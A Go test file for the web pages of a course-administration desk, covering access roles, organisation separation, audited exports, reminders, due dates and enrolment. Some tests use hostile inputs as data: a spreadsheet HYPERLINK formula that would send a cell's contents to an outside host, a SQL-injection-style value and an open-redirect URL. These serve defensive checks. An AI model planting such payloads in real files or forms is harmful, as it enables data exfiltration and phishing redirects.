package deskweb_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/xuri/excelize/v2"

	"ostoja/internal/access"
	"ostoja/internal/clock"
	"ostoja/internal/db"
	"ostoja/internal/db/dbtest"
	"ostoja/internal/desk"
	"ostoja/internal/desk/desktest"
	"ostoja/internal/desk/deskweb"
	"ostoja/internal/errs"
	"ostoja/internal/id"
	"ostoja/internal/learning"
	"ostoja/internal/mail"
	"ostoja/internal/web"
	"ostoja/internal/web/webtest"
)

// fake stands for learning and the outbox, and keeps what it was asked.
type fake struct {
	enrolled  []string
	until     time.Time            // that enrolling was asked with
	due       map[string]time.Time // that were set
	withdrawn []string
	restored  []string
	moved     []string
	mail      []mail.Message
}

func (f *fake) SetDue(_ context.Context, _ access.Actor, _ string, enrolments []string, due time.Time) (int, error) {
	f.due = map[string]time.Time{}
	for _, e := range enrolments {
		f.due[e] = due
	}
	return len(enrolments), nil
}

func (f *fake) EnrolOn(_ context.Context, _ access.Actor, course string, people []string, due time.Time, _ bool) (int, error) {
	f.until = due
	if course != "course-2" {
		return 0, errs.NotFound("error.not-found")
	}
	f.enrolled = append(f.enrolled, people...)
	return len(people), nil
}

func (f *fake) Withdraw(_ context.Context, _ access.Actor, enrolment string) error {
	if !id.Valid(enrolment) {
		return errs.NotFound("error.not-found")
	}
	f.withdrawn = append(f.withdrawn, enrolment)
	return nil
}

func (f *fake) Restore(_ context.Context, _ access.Actor, enrolment string) error {
	f.restored = append(f.restored, enrolment)
	return nil
}

func (f *fake) Move(_ context.Context, _ access.Actor, course string) (int, error) {
	f.moved = append(f.moved, course)
	return 5, nil
}

func (f *fake) Send(_ context.Context, _ *db.Tx, m mail.Message) error {
	f.mail = append(f.mail, m)
	return nil
}

type world struct {
	*webtest.Server
	*fake
	seeded  *desktest.World
	d       *db.DB
	service *desk.Service
	pages   *deskweb.Pages
}

func newWorld(t testing.TB, d *db.DB, o desktest.Options) *world {
	t.Helper()
	w := &world{fake: &fake{}, d: d, seeded: desktest.Fill(t, d, o)}
	c := clock.NewFake(w.seeded.Now)
	site := webtest.NewSite(t, c)
	w.service = desk.New(desk.Deps{DB: d, Clock: c, Zone: w.seeded.Zone(), Courses: w.seeded.Catalogue(), Rounds: learning.New(learning.Deps{DB: d, Clock: c}), Outbox: w.fake, Catalogue: site.Catalogue, BaseURL: site.BaseURL})
	w.pages = deskweb.New(deskweb.Deps{Site: site, Service: w.service, Enroller: w.fake, Withdrawer: w.fake, Mover: w.fake})
	w.Server = webtest.New(t, site, func(m *web.Mux) { w.pages.Routes(m) })
	for name, grant := range map[string]access.Grant{
		"all": {Role: access.Coordinator}, "learner": {Role: access.Learner}, "reviewer": {Role: access.Reviewer}, "author": {Role: access.Author},
		"unit": {Role: access.Coordinator, Path: w.seeded.Units[0].Path},
	} {
		w.SignIn(name, access.Actor{PersonID: id.New(), Grants: []access.Grant{grant}, At: w.seeded.Now})
	}
	return w
}

func TestWhoIsRefused(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	reads := []string{"/app/desk", "/app/desk/course-1", "/app/desk/course-1/people", "/app/desk/course-1/stories", "/app/desk/course-1/people?as=csv", "/app/desk/course-1/enrol", "/app/desk/course-1?as=xlsx", "/app/desk?as=csv"}
	writes := []string{"/app/desk/course-2/enrol", "/app/desk/course-1/remind", "/app/desk/course-1/due", "/app/desk/course-1/move", "/app/desk/course-1/withdraw/" + id.New(), "/app/desk/course-1/restore/" + id.New()}
	for as, want := range map[string]struct{ read, enrolForm, write int }{
		"": {303, 303, 401}, "learner": {403, 403, 403}, "author": {403, 403, 403}, "reviewer": {200, 403, 403}, "all": {200, 200, 303},
	} {
		for _, path := range reads {
			status := want.read
			if strings.HasSuffix(path, "/enrol") {
				status = want.enrolForm
			}
			if p := w.Get(as, path); p.Status != status {
				t.Errorf("GET %s as %q: %d, want %d", path, as, p.Status, status)
			}
		}
		for _, path := range writes {
			status := want.write
			if strings.HasSuffix(path, "/due") && status == http.StatusSeeOther { // it asks for the day first
				status = http.StatusOK
			}
			if p := w.Post(as, path, url.Values{"all": {"1"}, "sure": {"1"}}); p.Status != status {
				t.Errorf("POST %s as %q: %d, want %d", path, as, p.Status, status)
			}
		}
	}
	foreign := w.seeded.Units[slices.IndexFunc(w.seeded.Units, func(u desktest.Unit) bool { return u.Name == "Organizacja 2" })].ID
	for path, status := range map[string]int{
		"/app/desk/none": 404, "/app/desk/none/people": 404, "/app/desk/none/enrol": 404, "/app/desk/none/people?as=csv": 404, "/app/desk/none/export/people.csv": 301,
		"/app/desk/course-1/export/people.exe": 404, "/app/desk/course-1/export/passwords.csv": 404, "/app/desk/course-1/export/people": 404,
		"/app/desk/course-1?unit=" + foreign: 404, "/app/desk/course-1/people?unit=" + foreign: 404, "/app/desk/course-1/enrol?unit=" + foreign: 404,
		"/app/desk/course-1/people?as=csv&unit=" + foreign: 404, "/app/desk/course-1?month=x": 400, "/app/desk/course-1/people?month=x": 200, "/app/desk/course-1/people?figure=x": 200,
		"/app/desk/course-1/people?state=x": 200, "/app/desk/course-1/people?sort=x": 200, "/app/desk/course-1/people?page=99999999999999999999": 200, "/app/desk/course-1/people?stalled=x": 200,
	} {
		if p := w.Get("unit", path); p.Status != status {
			t.Errorf("%s: %d, want %d", path, p.Status, status)
		}
	}
}

// total returns how many people a list says it has.
func total(t *testing.T, p webtest.Page) int {
	t.Helper()
	if p.Find(".empty, .list-none").Length() > 0 {
		return 0
	}
	words := strings.Fields(p.Text(".list-above p")) // "1–50 z 130", or "7 pozycji"
	last := words[len(words)-1]
	if len(words) == 2 {
		last = words[0]
	}
	n, err := strconv.Atoi(last)
	if err != nil {
		t.Fatalf("%q", words)
	}
	return n
}

// Every figure on every page opens exactly the people whom it counts.
func TestFiguresOpen(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		w := newWorld(t, d, desktest.Small)
		opened := 0
		for _, path := range []string{
			"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1?by=regions", "/app/desk/course-1?by=months",
			"/app/desk/course-1?figure=passed&month=2026-09&by=units", "/app/desk/course-1?month=2026-06&by=months", "/app/desk/course-1?by=units&unit=" + w.seeded.Units[1].ID,
		} {
			p := w.Get("unit", path)
			if p.Status != http.StatusOK {
				t.Fatalf("%s: %d", path, p.Status)
			}
			p.Find("td.num a, .stat a").Each(func(_ int, a *goquery.Selection) {
				href, _ := a.Attr("href")
				said := a.Text()
				if value := a.Find(".stat-value"); value.Length() > 0 {
					said = value.Text()
				}
				if n := total(t, w.Get("unit", href)); strconv.Itoa(n) != said {
					t.Errorf("%s says %s, and %s has %d", path, said, href, n)
				}
				opened++
			})
		}
		if opened < 100 {
			t.Errorf("only %d figures could be opened", opened)
		}
	})
}

// A coordinator of one organisation meets nobody of another: on no page, in no choice, in no file.
func TestOthersAreNotSeen(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		w := newWorld(t, d, desktest.Small)
		ctx := context.Background()
		// Names that tell whose they are.
		for i, person := range w.seeded.People {
			name := "Swoja"
			if !strings.HasPrefix(w.seeded.UnitOf[person].Path, w.seeded.Units[0].Path) {
				name = "Cudza"
			}
			if err := d.Update(ctx, func(tx *db.Tx) error {
				return db.Exec(ctx, tx, `UPDATE person SET family_name = ?, search_text = ? WHERE id = ?`, fmt.Sprint(name, i), strings.ToLower(name), person)
			}); err != nil {
				t.Fatal(err)
			}
		}
		seen := 0
		for _, path := range []string{
			"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1?by=regions", "/app/desk/course-1?by=months", "/app/desk/course-1/people",
			"/app/desk/course-1/people?q=cudza", "/app/desk/course-1/people?page=2", "/app/desk/course-2/enrol", "/app/desk/course-2/enrol?q=cudza",
			"/app/desk/course-1/people?as=csv", "/app/desk/course-1?by=organisations&as=csv", "/app/desk/course-1?by=units&as=csv", "/app/desk/course-2/enrol?as=csv", "/app/desk?as=csv",
		} {
			body := w.Get("unit", path).Body
			for _, never := range []string{"Cudza", "Organizacja 2", "Oddział 2", "Placówka 2"} {
				if strings.Contains(body, never) {
					t.Errorf("%s shows %s", path, never)
				}
			}
			seen += strings.Count(body, "Swoja")
		}
		if seen == 0 {
			t.Error("one's own people are not seen either")
		}
		w.Post("unit", "/app/desk/course-2/enrol", url.Values{"all": {"1"}, "sure": {"1"}})
		for _, person := range w.enrolled {
			if !strings.HasPrefix(w.seeded.UnitOf[person].Path, w.seeded.Units[0].Path) {
				t.Error("a person of another organisation would be enrolled")
			}
		}
	})
}

// TestPeopleLeaveByAListThatRecordsIt: the file of a course's people is recorded, with what is in it; who could be enrolled has none.
func TestPeopleLeaveByAListThatRecordsIt(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		w := newWorld(t, d, desktest.Small)
		recorded := func() []string {
			list, err := db.All[string](t.Context(), d, `SELECT object || ' ' || detail FROM audit WHERE action = 'person.export'`)
			if err != nil {
				t.Fatal(err)
			}
			return list
		}
		for path, status := range map[string]int{
			"/app/desk/course-1/people": 200, "/app/desk/course-2/enrol": 200, "/app/desk/course-2/enrol?as=csv": 200, "/app/desk/course-1?by=units&as=csv": 200,
			"/app/desk/none/people?as=csv": 404,
		} {
			p := w.Get("all", path)
			if p.Status != status || strings.Contains(path, "enrol") && (p.Find("main").Length() != 1 || p.Find(".exports").Length() != 0) {
				t.Errorf("%s: %d", path, p.Status)
			}
		}
		if got := recorded(); len(got) != 0 {
			t.Errorf("recorded: %v", got)
		}
		file := w.Get("all", "/app/desk/course-1/people?as=csv")
		rows := strings.Count(strings.TrimSpace(file.Body), "\n")
		if got := recorded(); len(got) != 1 || !strings.HasPrefix(got[0], "course:course-1 ") || !strings.Contains(got[0], fmt.Sprintf(`"rows":%d`, rows)) || !strings.Contains(got[0], `"csv"`) {
			t.Errorf("%d rows, recorded: %v", rows, got)
		}
	})
}

func TestPeoplePage(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1, RegionsEach: 1, PostsEach: 1, People: 130, Courses: 1, Seed: 5})
	p := w.Get("all", "/app/desk/course-1/people?q=nowak&stalled=7&sort=active&desc=1")
	for selector, want := range map[string]string{`input[name=q]`: "nowak", `select[name=stalled] option[selected]`: "7"} {
		if got, _ := p.Find(selector).First().Attr("value"); got != want {
			t.Errorf("%s: %q", selector, got)
		}
	}
	if got, _ := p.Find("th[aria-sort=descending] a").Attr("href"); !strings.Contains(got, "q=nowak") {
		t.Errorf("the sorting link %q loses the search", got)
	}
	p.Find("tbody tr th").Each(func(_ int, td *goquery.Selection) {
		if !strings.Contains(td.Text(), "Nowak") {
			t.Error(td.Text())
		}
	})
	p = w.Get("all", "/app/desk/course-1/people?page=2")
	if p.Find("tbody tr").Length() != 50 || total(t, p) != 130 {
		t.Errorf("page 2 of %d", total(t, p))
	}
	// The Enter key presses the form's first button: it must be the harmless one.
	if first := p.Find("form.list-form[action$='/remind'] button:not([form])").First(); first.Length() != 1 || first.AttrOr("formaction", "") != "" || p.Find("button[formaction]:not([form=one])").Not(".selection-more button").Length() > 0 || p.Find("form#one").Length() != 1 {
		t.Error("the Enter key would withdraw somebody")
	}
	if strings.Contains(p.Text("title"), "Nowak") {
		t.Error("a name in the title")
	}
	if p := w.Get("reviewer", "/app/desk/course-1/people"); p.Find("input[type=checkbox], button[formaction]").Length() > 0 {
		t.Error("a reviewer is offered what they may not")
	}
	if p := w.Get("all", "/app/desk/course-1/people?q=zzz"); p.Find(".list-none a").Length() != 1 {
		t.Error("no way out of an empty list")
	}
}

func TestExports(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		w := newWorld(t, d, desktest.Small)
		ctx := context.Background()
		formula := `=HYPERLINK("http://example.org?"&A1,"x")`
		for _, change := range []string{`UPDATE person SET given_name = ?`, `UPDATE unit SET name = ?`} {
			if err := d.Update(ctx, func(tx *db.Tx) error { return db.Exec(ctx, tx, change, formula) }); err != nil {
				t.Fatal(err)
			}
		}
		for _, what := range []string{"people", "organisations", "units", "regions", "months"} {
			address := "/app/desk/course-1?by=" + what + "&figure=passed"
			if what == "people" {
				address = "/app/desk/course-1/people?figure=passed"
			}
			// The file had an address of its own, which leads to the list's.
			old := w.Get("all", "/app/desk/course-1/export/"+what+".csv?figure=passed").Header.Get("Location")
			if u, err := url.Parse(old); err != nil || u.Query().Get("figure") != "passed" || u.Query().Get("as") != "csv" {
				t.Errorf("%s leads to %q", what, old)
			}
			page := w.Get("all", old)
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(page.Body, "\ufeff")))
			r.Comma = ';'
			rows, err := r.ReadAll()
			if err != nil || len(rows) < 2 || !strings.Contains(page.Header.Get("Content-Disposition"), what+"-2026-11-23.csv") {
				t.Fatalf("%s: %v, %d rows, %v", what, err, len(rows), page.Header)
			}
			file, err := excelize.OpenReader(strings.NewReader(w.Get("all", address+"&as=xlsx").Body))
			if err != nil {
				t.Fatal(what, err)
			}
			cells, err := file.GetRows(file.GetSheetName(0))
			if err != nil || len(cells) != len(rows) {
				t.Errorf("%s: %d rows as XLSX, %d as CSV, %v", what, len(cells), len(rows), err)
			}
			for i, row := range append(rows, cells...) {
				for j, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
						t.Errorf("%s: row %d, column %d is a formula: %s", what, i, j, cell)
					}
				}
			}
			list, n, err := w.service.People(ctx, access.System, "course-1", desk.Filter{Figure: desk.Passed}, desk.Sort{}, desk.Page{})
			if err != nil {
				t.Fatal(err)
			}
			if what == "people" && (len(rows) != n+1 || rows[1][0] != list[0].FamilyName) {
				t.Errorf("%d rows for %d people", len(rows), n)
			}
			if last := rows[len(rows)-1]; what != "people" && last[5] != strconv.Itoa(n) {
				t.Errorf("%s: the total is %v, and %d passed", what, last, n)
			}
		}
	})
}

// TestTheFileNamesRegions: who has a region, of their own or by their unit, has its name in the file, and nobody else has a text there.
func TestTheFileNamesRegions(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		w := newWorld(t, d, desktest.Small)
		err := d.Update(t.Context(), func(tx *db.Tx) error {
			if err := db.Exec(t.Context(), tx, `UPDATE person SET region = ''`); err != nil {
				return err
			}
			return db.Exec(t.Context(), tx, `UPDATE unit SET region = CASE WHEN path LIKE ? THEN '' WHEN parent_id IS NULL THEN '06' ELSE '' END`, w.seeded.Units[0].Path+"%")
		})
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Get("all", "/app/desk/course-1/people?as=csv").Body, "\ufeff")))
		r.Comma = ';'
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		column, none, named := slices.Index(rows[0], "Województwo"), 0, 0
		if column < 0 {
			t.Fatalf("no region among %q", rows[0])
		}
		list, _, err := w.service.People(t.Context(), access.System, "course-1", desk.Filter{}, desk.Sort{}, desk.Page{})
		if err != nil {
			t.Fatal(err)
		}
		for i, x := range list {
			switch cell := rows[1+i][column]; {
			case x.Region == "" && cell == "":
				none++
			case x.Region == "06" && strings.EqualFold(cell, "lubelskie"):
				named++
			default:
				t.Errorf("%q stands for the region %q", cell, x.Region)
			}
		}
		if none == 0 || named == 0 {
			t.Errorf("%d people without a region and %d with one", none, named)
		}
	})
}

func TestRemind(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	p := w.Post("all", "/app/desk/course-1/remind", url.Values{"all": {"1"}, "sure": {"1"}, "stalled": {"14"}, "q": {"a"}, "unit": {w.seeded.Units[0].ID}})
	if p.Status != http.StatusSeeOther || !strings.Contains(p.Header.Get("Location"), "stalled=14") || len(w.mail) == 0 {
		t.Errorf("%d %s, %d letters", p.Status, p.Header.Get("Location"), len(w.mail))
	}
	n := len(w.mail)
	w.Post("all", "/app/desk/course-1/remind", url.Values{"all": {"1"}, "sure": {"1"}, "stalled": {"14"}, "q": {"a"}, "unit": {w.seeded.Units[0].ID}})
	if len(w.mail) != n {
		t.Error("the same people were written to twice")
	}
	if p := w.Post("all", "/app/desk/course-1/remind", url.Values{}); p.Status != http.StatusSeeOther || len(w.mail) != n {
		t.Errorf("nobody ticked: %d", p.Status)
	}
	if p := w.Post("all", "/app/desk/course-1/remind", url.Values{"enrolment": {"'; --", id.New()}}); p.Status != http.StatusSeeOther || len(w.mail) != n {
		t.Errorf("nonsense ticked: %d", p.Status)
	}
}

// TestDueDay: who is chosen is asked for with their number before a day is set; what was typed stays when it is wrong.
func TestDueDay(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	const path = "/app/desk/course-1/due"
	boxes := w.Get("all", "/app/desk/course-1/people?state=in-progress").Find("input[name=enrolment]").Map(func(_ int, s *goquery.Selection) string { return s.AttrOr("value", "") })
	if len(boxes) < 2 {
		t.Fatal(len(boxes))
	}
	two := url.Values{"enrolment": boxes[:2]}
	p := w.Post("all", path, two)
	if p.Status != http.StatusOK || p.Find("input[name=enrolment]").Length() != 2 || w.due != nil || !strings.Contains(p.Find("main").Text(), "niczego nie zamyka") {
		t.Errorf("asked: %d, %v", p.Status, w.due)
	}
	with := func(pairs ...string) url.Values {
		v := url.Values{"enrolment": boxes[:2]}
		for i := 0; i < len(pairs); i += 2 {
			v.Set(pairs[i], pairs[i+1])
		}
		return v
	}
	for name, form := range map[string]url.Values{
		"no day": with("act", "set"), "both": with("act", "set", "due-day", "2030-01-01", "days", "3"), "no date": with("act", "set", "due-day", "1 maja"),
		"gone by": with("act", "set", "due-day", "2020-01-01"), "far": with("act", "set", "due-day", "2999-01-01"), "no number": with("act", "set", "days", "-3"),
	} {
		p := w.Post("all", path, form)
		if p.Status != http.StatusUnprocessableEntity || p.Find(".errors").Length() != 1 || p.Find("input[name=due-day]").AttrOr("value", "") != form.Get("due-day") || p.Find("input[name=days]").AttrOr("value", "") != form.Get("days") || w.due != nil {
			t.Errorf("%s: %d, %v", name, p.Status, w.due)
		}
	}
	for name, c := range map[string]struct {
		form url.Values
		want time.Time
	}{
		"a number": {with("act", "set", "days", "30"), desk.EndOfDay(w.seeded.Now.In(w.seeded.Zone()).AddDate(0, 0, 30))},
		"none":     {with("act", "clear", "days", "30"), time.Time{}},
	} {
		p := w.Post("all", path, c.form)
		if p.Status != http.StatusSeeOther || len(w.due) != 2 || !w.due[boxes[0]].Equal(c.want) {
			t.Errorf("%s: %d, %v", name, p.Status, w.due)
		}
	}
	w.due = nil
	if p := w.Post("all", path, url.Values{"all": {"1"}, "state": {"in-progress"}, "act": {"set"}, "days": {"5"}}); p.Status != http.StatusSeeOther || len(w.due) < len(boxes) || !strings.Contains(p.Header.Get("Location"), "state=in-progress") {
		t.Errorf("all: %d, %d", p.Status, len(w.due))
	}
	for name, form := range map[string]url.Values{"nobody": {}, "nonsense": {"enrolment": {"'; --"}}} {
		if p := w.Post("all", path, form); p.Status != http.StatusSeeOther {
			t.Errorf("%s: %d", name, p.Status)
		}
	}
	w.Post("all", "/app/desk/course-2/enrol", url.Values{"all": {"1"}, "sure": {"1"}, "days": {"10"}})
	if want := desk.EndOfDay(w.seeded.Now.In(w.seeded.Zone()).AddDate(0, 0, 10)); !w.until.Equal(want) {
		t.Errorf("enrolled until %s", w.until)
	}
	w.enrolled = nil
	if p := w.Post("all", "/app/desk/course-2/enrol", url.Values{"all": {"1"}, "sure": {"1"}, "days": {"ten"}}); p.Status != http.StatusUnprocessableEntity || len(w.enrolled) > 0 || p.Find("input[name=days]").AttrOr("value", "") != "ten" {
		t.Errorf("no number: %d", p.Status)
	}
}

func TestWithdrawAndMove(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	list := w.Get("all", "/app/desk/course-1/people?state=in-progress")
	action, _ := list.Find("button[formaction]").First().Attr("formaction")
	back, _ := list.Find("input[name=back]").Attr("value")
	if p := w.Post("all", action, url.Values{"back": {back}}); p.Header.Get("Location") != back || len(w.withdrawn) != 1 || !strings.HasSuffix(action, w.withdrawn[0]) {
		t.Errorf("%s: %d %s", action, p.Status, p.Header.Get("Location"))
	}
	if p := w.Post("all", action, url.Values{"back": {"https://evil.example"}}); p.Header.Get("Location") != "/app/desk/course-1/people" {
		t.Errorf("led to %s", p.Header.Get("Location"))
	}
	if action, _ := w.Get("all", "/app/desk/course-1/people?state=withdrawn").Find("button[formaction]").First().Attr("formaction"); w.Post("all", action, nil).Status != http.StatusSeeOther || len(w.restored) != 1 {
		t.Errorf("restored: %v", w.restored)
	}
	course := w.Get("all", "/app/desk/course-1")
	if action, _ := course.Find("form[method=post][action$='/move']").Attr("action"); w.Post("all", action, nil).Status != http.StatusSeeOther || len(w.moved) != 1 {
		t.Errorf("moved: %v", w.moved)
	}
	if w.Get("reviewer", "/app/desk/course-1").Find("form[method=post][action$='/move']").Length() > 0 {
		t.Error("a reviewer is offered to move people")
	}
}

func TestEnrol(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	path := "/app/desk/course-2/enrol"
	p := w.Get("all", path)
	people := p.Find("input[name=person]").Map(func(_ int, s *goquery.Selection) string { return s.AttrOr("value", "") })
	if len(people) == 0 || total(t, p) < len(people) {
		t.Fatal(len(people))
	}
	if p := w.Post("all", path, url.Values{"unit": {w.seeded.Units[0].ID}}); p.Status != http.StatusUnprocessableEntity || p.Find(".errors").Length() != 1 || p.Find("select[name=unit] option[selected]").AttrOr("value", "") != w.seeded.Units[0].ID {
		t.Errorf("nobody chosen: %d", p.Status)
	}
	if p := w.Post("all", path, url.Values{"person": people[:2]}); p.Status != http.StatusSeeOther || !slices.Equal(w.enrolled, people[:2]) {
		t.Errorf("%d %v", p.Status, w.enrolled)
	}
	w.enrolled = nil
	w.Post("all", path, url.Values{"all": {"1"}, "sure": {"1"}, "q": {"nowak"}})
	if n := total(t, w.Get("all", path+"?q=nowak")); len(w.enrolled) != n || n == 0 {
		t.Errorf("%d enrolled of %d", len(w.enrolled), n)
	}
}

func TestPersonSection(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	for as, want := range map[string]bool{"all": true, "learner": false} {
		m := web.NewMux(w.Site)
		m.Handle("GET /app/{$}", func(rw http.ResponseWriter, r *http.Request) error {
			section, _, err := w.pages.PersonSection(r, w.seeded.People[0])
			if err != nil {
				return err
			}
			return web.Show(rw, r, web.View{}, section)
		})
		p := webtest.On(t, w.Server, m).Get(as, "/app/")
		if got := p.Find(".card").Length() > 0; got != want {
			t.Errorf("%s sees the history: %v", as, got)
		}
	}
}

// Nothing has happened yet: each page says what to do next.
func TestEmpty(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1, Courses: 1, Seed: 1})
	for _, path := range []string{"/app/desk/course-1", "/app/desk/course-1/people"} {
		if p := w.Get("all", path); p.Find(".empty a[href='/app/desk/course-1/enrol']").Length() != 1 {
			t.Errorf("%s: %s", path, p.Text(".empty"))
		}
	}
	w = newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1})
	if p := w.Get("all", "/app/desk"); p.Find(".empty").Length() != 1 {
		t.Error("no empty state without courses")
	}
}

// The month that is chosen stays chosen, also one in which nothing happened, which the list does not offer; none is chosen twice.
func TestTheChosenMonthStays(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Options{Organisations: 1, RegionsEach: 1, PostsEach: 1, People: 30, Courses: 1, Seed: 5})
	offered := w.Get("all", "/app/desk/course-1").Find("select[name=month] option")
	known := offered.Eq(1).AttrOr("value", "")
	for month, more := range map[string]int{"": 0, known: 0, "2019-01": 1} {
		options := w.Get("all", "/app/desk/course-1?month="+month).Find("select[name=month] option")
		if got := options.Filter("[selected]").AttrOr("value", ""); got != month || options.Length() != offered.Length()+more {
			t.Errorf("of %q: %q is chosen of %d, %d without it", month, got, options.Length(), offered.Length())
		}
	}
}

// Whole pages with 15,000 learners.
func BenchmarkPages(b *testing.B) {
	w := newWorld(b, dbtest.SQLite(b), desktest.Large)
	for _, path := range []string{"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1/people", "/app/desk/course-1/people?sort=score&desc=1", "/app/desk/course-2/enrol"} {
		b.Run(path, func(b *testing.B) {
			size := 0
			for b.Loop() {
				size = len(w.Get("all", path).Body)
			}
			b.ReportMetric(float64(size)/1024, "kB/page")
		})
	}
}

// TestAPhoneShowsTheWholeOfAFigure: those who passed stand there without the column of those invited. A month has no whole: who
// passed in it was invited in another.
func TestAPhoneShowsTheWholeOfAFigure(t *testing.T) {
	w := newWorld(t, dbtest.SQLite(t), desktest.Small)
	for path, whole := range map[string]bool{"/app/desk": true, "/app/desk/course-1": true, "/app/desk/course-1?by=regions": true, "/app/desk/course-1?by=months": false} {
		p := w.Get("all", path)
		for _, row := range p.Find(".list-table tbody tr").EachIter() {
			invited, figure := strings.TrimSpace(row.Find("td").First().Text()), row.Find("td.l-figure")
			if got := strings.Join(strings.Fields(figure.Find(".phone-only").Text()), " "); whole && got != "z "+invited || !whole && got != "" {
				t.Errorf("%s: of %q, want %s", path, got, invited)
			}
			if label := figure.Find(".phone-label").Length(); whole == (label == 1) {
				t.Errorf("%s: %d labels", path, label)
			}
		}
		if p.Find(".list-table tbody tr").Length() == 0 {
			t.Errorf("%s has no rows", path)
		}
	}
}
